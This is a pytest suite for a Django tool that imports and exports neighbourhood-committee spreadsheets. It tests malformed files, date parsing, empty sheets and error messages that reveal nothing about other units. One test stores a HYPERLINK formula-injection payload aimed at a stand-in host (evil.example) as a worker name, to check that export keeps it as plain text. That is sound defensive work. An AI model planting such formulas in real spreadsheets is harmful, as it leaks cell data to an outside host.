"""What real spreadsheets do to an import: wrong stored sizes, formulas, Excel's CSV dates, stray columns,
emptied sheets, broken CSV; and what an import must not tell a person about other units."""

import datetime
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command

from committees.interchange import export_org, import_org
from committees.models import CommitteeYear, CommunityWorker
from tests.support.factories import CommunityWorkerFactory

pytestmark = pytest.mark.django_db

YEAR_HEADER = ["居委会代码", "年度", "管辖户数", "实际居住户数", "办公服务用房面积"]


def _workbook(path, rows, header=YEAR_HEADER, sheet="committee_years"):  # noqa: ANN001, ANN202
    workbook = openpyxl.Workbook()
    worksheet = workbook.active
    worksheet.title = sheet
    worksheet.append(header)
    for row in rows:
        worksheet.append(row)
    workbook.save(path)
    return path


def test_rows_beyond_a_wrong_stored_size_are_still_read(world, tmp_path) -> None:  # noqa: ANN001
    path = _workbook(tmp_path / "org.xlsx", [[world.baoxing.code, 2025, 900, 800], [world.hankou.code, 2025, -1, 800]])
    # Rewrite the sheet's <dimension> to claim only the header row, as some tools do.
    import zipfile

    source = zipfile.ZipFile(path)
    patched = tmp_path / "patched.xlsx"
    with zipfile.ZipFile(patched, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename.startswith("xl/worksheets/"):
                data = re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:D1"', data)
            target.writestr(item, data)
    report = import_org(patched)
    assert [(e.row, e.column) for e in report.errors] == [(3, "households")]


def test_a_formula_result_with_float_noise_is_read_as_two_decimals(world, tmp_path) -> None:  # noqa: ANN001
    report = import_org(_workbook(tmp_path / "org.xlsx", [[world.baoxing.code, 2025, 900, 800, 0.1 + 0.2]]))
    assert report.ok, report.errors
    assert CommitteeYear.objects.get().office_area_m2 == Decimal("0.30")


def test_year_first_dates_excel_writes_in_csv_are_accepted(world, tmp_path) -> None:  # noqa: ANN001
    (tmp_path / "workers.csv").write_text("工号,居委会代码,姓名,入职日期\nW1,310101013018,张敏,2015/3/1\n", encoding="utf-8")
    assert import_org(tmp_path).ok
    assert CommunityWorker.objects.get(code="W1").hired_on == datetime.date(2015, 3, 1)


def test_an_unknown_column_is_a_warning_and_the_rest_is_imported(world, tmp_path) -> None:  # noqa: ANN001
    report = import_org(_workbook(tmp_path / "org.xlsx", [[world.baoxing.code, 2025, 900, 800, 120, "核实中"]],
                                  header=[*YEAR_HEADER, "备注"]))
    assert report.ok and report.counts["committee_years"]["created"] == 1
    assert any("备注" in warning for warning in report.warnings)


def test_an_emptied_sheet_is_skipped(world, tmp_path) -> None:  # noqa: ANN001
    (tmp_path / "districts.csv").write_text("", encoding="utf-8")
    (tmp_path / "committee_years.csv").write_text(
        f"居委会代码,年度,管辖户数,实际居住户数\n{world.baoxing.code},2025,900,800\n", encoding="utf-8")
    report = import_org(tmp_path)
    assert report.ok and "districts" not in report.counts and report.warnings


def test_a_file_with_headers_only_is_refused_as_empty(world, tmp_path) -> None:  # noqa: ANN001
    (tmp_path / "committee_years.csv").write_text("居委会代码,年度,管辖户数,实际居住户数\n\n", encoding="utf-8")
    report = import_org(tmp_path)
    assert not report.ok and "没有数据行" in report.errors[0].message


def test_a_csv_with_an_unclosed_quote_is_reported_not_raised(world, tmp_path) -> None:  # noqa: ANN001
    body = f'居委会代码,年度,管辖户数,实际居住户数\n{world.baoxing.code},2025,900,"800\n' + "x" * 200_000 + "\n"
    (tmp_path / "committee_years.csv").write_text(body, encoding="utf-8")
    report = import_org(tmp_path)
    assert not report.ok and "引号" in report.errors[0].message
    assert not CommitteeYear.objects.exists()


def test_a_qualification_for_a_worker_of_another_street_reveals_nothing(world, street_officer, tmp_path) -> None:  # noqa: ANN001
    CommunityWorkerFactory(committee=world.yunnan, code="NJ-0007")
    (tmp_path / "qualifications.csv").write_text(
        "工号,等级,取得日期\nNJ-0007,社会工作师,2020-01-01\nNO-SUCH,社会工作师,2020-01-01\n", encoding="utf-8")
    report = import_org(tmp_path, actor=street_officer)
    assert [(e.row, e.value) for e in report.errors] == [(2, "NJ-0007"), (3, "NO-SUCH")]
    assert report.errors[0].message == report.errors[1].message
    assert world.yunnan.code not in str(report.as_json())


def test_a_name_that_looks_like_a_formula_is_exported_as_text_and_round_trips(world, tmp_path) -> None:  # noqa: ANN001
    name = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
    CommunityWorkerFactory(committee=world.baoxing, code="W-EVIL", name=name[:50])
    export_org(tmp_path / "org.xlsx")
    cell = next(row for row in openpyxl.load_workbook(tmp_path / "org.xlsx")["workers"].iter_rows(min_row=2)
                if row[0].value == "W-EVIL")[2]
    assert cell.data_type == "s" and cell.value == name[:50]
    report = import_org(tmp_path / "org.xlsx")
    assert report.ok and report.totals()["created"] == report.totals()["updated"] == 0


def test_the_command_prints_a_damaged_workbook_as_an_error(world, tmp_path) -> None:  # noqa: ANN001
    (tmp_path / "org.xlsx").write_bytes(b"PK\x03\x04 not really a workbook")
    stderr = io.StringIO()
    with pytest.raises(Exception, match="error"):
        call_command("import_org", str(tmp_path / "org.xlsx"), stderr=stderr, stdout=io.StringIO())
    assert "不是有效的" in stderr.getvalue() or "无法读取" in stderr.getvalue()
